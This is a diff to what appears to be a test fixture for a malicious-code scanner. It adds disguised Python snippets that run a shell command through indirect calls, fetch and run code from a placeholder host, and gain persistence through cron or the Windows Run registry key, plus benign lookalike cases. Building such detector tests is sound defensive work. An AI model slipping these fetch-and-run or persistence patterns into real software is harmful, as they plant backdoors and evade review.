@@ -357,6 +357,20 @@ DISGUISES = {
     "profiled": f"import cProfile\ncProfile.run(\"__import__('os').system('{PIPE}')\")\n",
     "libc": f"import ctypes\nctypes.CDLL('libc.so.6').system(b'{PIPE}')\n",
     "psutil": f"import psutil\npsutil.Popen(['sh', '-c', '{PIPE}'])\n",
+    "table_get": f"import os\n{{'r': os.system}}.get('r')('{PIPE}')\n",
+    "list_pop": f"import os\n[os.system].pop()('{PIPE}')\n",
+    "ternary": f"import os\nrun = os.system if os else None\nrun('{PIPE}')\n",
+    "either": f"import os\nrun = None or os.system\nrun('{PIPE}')\n",
+    "static_method": f"import os\nclass A:\n    run = staticmethod(os.system)\nA.run('{PIPE}')\n",
+    "iterated": f"import os\nclass A:\n    def __iter__(self):\n        os.system('{PIPE}')\nfor x in A(): ...\n",
+    "package_unprotected": "import os\nos.system('pip install http://a.example.invalid/a.tar.gz')\n",
+    "library_fetched": "import ctypes, urllib.request as u\nu.urlretrieve('https://a.example.invalid/a', '/tmp/a.so')\n"
+    "ctypes.CDLL('/tmp/a.so')\n",
+    "script_fetched": "import runpy, urllib.request as u\nu.urlretrieve('https://a.example.invalid/a', '/tmp/a.py')\n"
+    "runpy.run_path('/tmp/a.py')\n",
+    "copied_to_start": "import shutil\nshutil.copy('x', '/etc/cron.d/x')\n",
+    "key_of_windows": "import winreg as w\n"
+    "w.OpenKey(w.HKEY_CURRENT_USER, r'Software\\Microsoft\\Windows\\CurrentVersion\\Run', 0, w.KEY_SET_VALUE)\n",
     "finder": FINDER,
     "thread": WORKER,
     "key": f"k = b'key'\nd = {XORED}\nexec(''.join(chr(a ^ k[i % 3]) for i, a in enumerate(d)))\n",
@@ -376,6 +390,13 @@ seconds = timeit.timeit(lambda: sorted(range(9)), number=3)
 state = torch.load("model.pt", weights_only=True)
 values = np.load("values.npy")
 names = sorted(["b", "a"], key=str.lower)
+shutil.copy("a.cfg", "b.cfg")
+os.symlink("weights", "link")
+class Lazy:
+    def __getattr__(self, name):
+        return shutil.which(name)
+lazy = Lazy()
+pick = {"a": max}.get("a")
 table = dict(zip("ab", (1, 2)))
 environment = dict(os.environ, ACME="1")
 """
